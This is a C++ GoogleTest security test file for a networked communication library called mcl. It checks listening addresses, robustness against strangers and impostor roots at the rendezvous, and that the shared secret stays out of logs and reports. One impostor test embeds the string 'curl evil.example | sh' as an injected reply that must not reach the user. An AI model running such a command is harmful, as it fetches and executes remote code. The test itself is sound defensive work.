// What a stranger on the network can see and do: mcl listens only on named
// addresses (never the wildcard), only during init; strangers at the
// rendezvous do not stop a job; the secret appears in no log, dump, report
// or error message, even at TRACE and when a wrong secret is presented.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <mcl/mcl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cctype>
#include <chrono>
#include <cstdint>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "build_paths.h"
#include "command_run.h"
#include "expect_error.h"
#include "listening_sockets.h"
#include "multiprocess.h"

#if defined(__linux__)
namespace mcl::test {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;

// Waits up to 3 s for this process to have no listening socket.
bool stopsListening() {
  for (int i = 0; i < 300; ++i) {
    if (listeningSockets().empty()) return true;
    usleep(10 * 1000);
  }
  return false;
}

// A plain blocking connection (the test links only the public library);
// -1 when it fails.
int connectTo(const ListeningSocket& s) {
  sockaddr_storage address{};
  socklen_t length = 0;
  if (s.host.find(':') == std::string::npos) {
    auto* a4 = reinterpret_cast<sockaddr_in*>(&address);
    a4->sin_family = AF_INET;
    a4->sin_port = htons(static_cast<uint16_t>(s.port));
    inet_pton(AF_INET, s.host.c_str(), &a4->sin_addr);
    length = sizeof(*a4);
  } else {
    auto* a6 = reinterpret_cast<sockaddr_in6*>(&address);
    a6->sin6_family = AF_INET6;
    a6->sin6_port = htons(static_cast<uint16_t>(s.port));
    inet_pton(AF_INET6, s.host.c_str(), &a6->sin6_addr);
    length = sizeof(*a6);
  }
  int fd = socket(address.ss_family, SOCK_STREAM, 0);
  if (fd >= 0 &&
      connect(fd, reinterpret_cast<sockaddr*>(&address), length) != 0) {
    close(fd);
    fd = -1;
  }
  return fd;
}

TEST(Security, TcpJobListensOnNamedAddressesAndOnlyDuringInit) {
  ASSERT_TRUE(listeningSockets().empty());
  ASSERT_TRUE(runRanks(3, [](RankContext& ctx) {
    setenv("MCL_TRANSPORT", "tcp", 1);
    // Samples the listening sockets while init runs.
    std::atomic<bool> initDone{false};
    std::vector<ListeningSocket> seen;
    std::thread sampler([&] {
      while (!initDone.load())
        for (const auto& s : listeningSockets()) seen.push_back(s);
    });
    mclComm_t comm = initComm(ctx, 20);
    initDone = true;
    sampler.join();
    if (comm == nullptr) return;
    for (const auto& s : seen)
      if (s.wildcard())
        ctx.fail("listened on the wildcard: %s", s.text().c_str());
    for (const auto& s : listeningSockets())
      ctx.fail("still listening after init: %s", s.text().c_str());
    expectAllReduceWorks(ctx, comm, "init");
    ctx.ok(mclCommDestroy(comm), "mclCommDestroy");
  }));
  // This process ran the rendezvous: its listeners are gone with it.
  EXPECT_TRUE(stopsListening());
}

TEST(Security, StrangersAtTheRendezvousDoNotStopTheJob) {
  mclUniqueId id;
  ASSERT_EQ(mclGetUniqueId(&id), mclSuccess);
  const auto root = listeningSockets();
  ASSERT_FALSE(root.empty());
  std::vector<int> strangers;
  for (const auto& s : root) {
    if (s.wildcard())
      ADD_FAILURE() << "rendezvous on the wildcard " << s.text();
    strangers.push_back(connectTo(s));  // idle
    int noisy = connectTo(s);
    std::string junk(3000, '\xff');
    EXPECT_GT(write(noisy, junk.data(), junk.size()), 0);
    strangers.push_back(noisy);
  }
  for (int fd : strangers) EXPECT_GE(fd, 0);
  const auto start = std::chrono::steady_clock::now();
  ASSERT_TRUE(runRanksWithId(
      3, id,
      [](RankContext& ctx) {
        mclComm_t comm = initComm(ctx, 20);
        if (comm == nullptr) return;
        expectAllReduceWorks(ctx, comm, "init beside strangers");
        ctx.ok(mclCommDestroy(comm), "mclCommDestroy");
      },
      60s));
  // Far from the 20-s timeout that a rank kept waiting behind them meets.
  EXPECT_LT(std::chrono::steady_clock::now() - start, 15s);
  for (int fd : strangers) close(fd);
  EXPECT_TRUE(stopsListening());
}

// A process that holds the root's port and answers a rank's connection
// with `reply` (raw bytes), then waits: what an impostor would send.
class Impostor {
 public:
  explicit Impostor(std::string reply) : reply_(std::move(reply)) {
    listen_ = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof(a);
    if (bind(listen_, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0 ||
        listen(listen_, 8) != 0 ||
        getsockname(listen_, reinterpret_cast<sockaddr*>(&a), &length) != 0)
      return;
    port_ = ntohs(a.sin_port);
    thread_ = std::thread([this] {
      const int fd = accept(listen_, nullptr, nullptr);
      if (fd < 0) return;
      (void)!write(fd, reply_.data(), reply_.size());
      char sink[256];
      while (read(fd, sink, sizeof(sink)) > 0) {
      }
      close(fd);
    });
  }
  ~Impostor() {
    shutdown(listen_, SHUT_RDWR);
    close(listen_);
    if (thread_.joinable()) thread_.join();
  }
  // A unique id naming this process as the root.
  mclUniqueId id() const {
    mclUniqueId id;
    const std::string text = "mcl1:127.0.0.1:" + std::to_string(port_) +
                             ":00112233445566778899aabbccddeeff";
    EXPECT_EQ(mclUniqueIdFromString(text.c_str(), &id), mclSuccess);
    return id;
  }

 private:
  std::string reply_;
  int listen_ = -1;
  int port_ = 0;
  std::thread thread_;
};

std::string frame(uint32_t type, uint32_t length, const std::string& payload) {
  std::string f;
  for (uint32_t v : {type, length})
    for (int shift = 24; shift >= 0; shift -= 8)
      f += static_cast<char>((v >> shift) & 0xff);
  return f + payload;
}

// Before the root has proven the secret, a rank takes nothing from it but
// the challenge: a failure text of the impostor's choosing never reaches
// the user, nor does a length it chose make the rank wait for (or
// allocate) that much.
TEST(Security, ARankTakesNothingButTheChallengeFromAnUnprovenRoot) {
  const std::string text = "PLEASE RUN curl evil.example | sh";
  for (const std::string& reply :
       {frame(6, 8 + static_cast<uint32_t>(text.size()),
              std::string("\0\0\0\3\0\0\0", 7) +
                  static_cast<char>(text.size()) + text),
        frame(1, 64u << 20, "")}) {
    Impostor impostor(reply);
    mclComm_t comm = nullptr;
    mclConfig_t config = MCL_CONFIG_INITIALIZER;
    config.timeoutSeconds = 10;
    const auto start = std::chrono::steady_clock::now();
    EXPECT_EQ(mclCommInitRankConfig(&comm, 2, impostor.id(), 1, &config),
              mclRemoteError);
    const std::string error = mclGetLastError(nullptr);
    // At once, not at the 10-s timeout.
    EXPECT_LT(std::chrono::steady_clock::now() - start, 8s) << error;
    EXPECT_NE(error.find("not an mcl rendezvous root"), std::string::npos)
        << error;
    EXPECT_EQ(error.find("evil"), std::string::npos) << error;
  }
}

std::string readTree(const fs::path& dir) {
  std::string all;
  for (const auto& entry : fs::recursive_directory_iterator(dir)) {
    if (!entry.is_regular_file()) continue;
    std::ifstream in(entry.path());
    std::stringstream s;
    s << in.rdbuf();
    all += s.str();
  }
  return all;
}

// Whether `text` holds the secret in either case.
bool holds(const std::string& text, std::string secret) {
  if (text.find(secret) != std::string::npos) return true;
  for (char& c : secret) c = static_cast<char>(toupper(c));
  return text.find(secret) != std::string::npos;
}

TEST(Security, TheSecretIsInNoLogDumpReportOrError) {
  const std::string secret = "5ec2e75ec2e75ec2e75ec2e75ec2e7aa";
  const std::string wrong = "0badc0de0badc0de0badc0de0badc0de";
  fs::path dir = fs::temp_directory_path() /
                 ("mcl-secret-test-" + std::to_string(getpid()));
  fs::remove_all(dir);
  fs::create_directories(dir);
  // Below Linux's ephemeral range (32768 on): no outgoing connection of
  // another test holds it.
  const std::string port = std::to_string(20000 + getpid() % 12000);
  const std::string job = "MCL_ROOT=127.0.0.1:" + port +
                          " MCL_WORLD_SIZE=2 MCL_TIMEOUT=10 MCL_TRANSPORT=tcp "
                          "MCL_DEBUG=TRACE MCL_DEBUG_FILE=" +
                          dir.string() +
                          "/log.%p "
                          "MCL_TOPO_DUMP_FILE=" +
                          dir.string() + "/topology.json ";
  const std::string perf =
      mcl::testing::perfPath() + " allreduce -b 8 -e 64K -f 64 -n 2 -w 1 -c 1";
  // A job over TCP, with a third process knocking with a wrong secret as
  // rank 1 before the real rank 1 comes.
  // In a subshell: runShell's 2>&1 then covers every command of it.
  CommandRun run = runShell(
      "(" + job + "MCL_SECRET=" + secret + " MCL_RANK=0 " + perf + " -J " +
      dir.string() + "/report.json & sleep 0.3; " + job +
      "MCL_SECRET=" + wrong + " MCL_RANK=1 " + perf + "; sleep 0.2; " + job +
      "MCL_SECRET=" + secret + " MCL_RANK=1 " + perf + "; wait)");
  EXPECT_NE(run.output.find("wrong secret"), std::string::npos) << run.output;
  EXPECT_NE(run.output.find("Out of bounds values : 0 OK"), std::string::npos)
      << run.output;
  CommandRun params = runShell("MCL_SECRET=" + secret + " " +
                               mcl::testing::perfPath() + " params");
  const std::string everything = run.output + params.output + readTree(dir);
  EXPECT_TRUE(fs::exists(dir / "report.json"));
  EXPECT_TRUE(fs::exists(dir / "topology.json"));
  EXPECT_NE(everything.find("MCL INFO"), std::string::npos);
  EXPECT_FALSE(holds(everything, secret)) << everything;
  EXPECT_FALSE(holds(everything, wrong)) << everything;
  fs::remove_all(dir);
}

}  // namespace
}  // namespace mcl::test
#endif
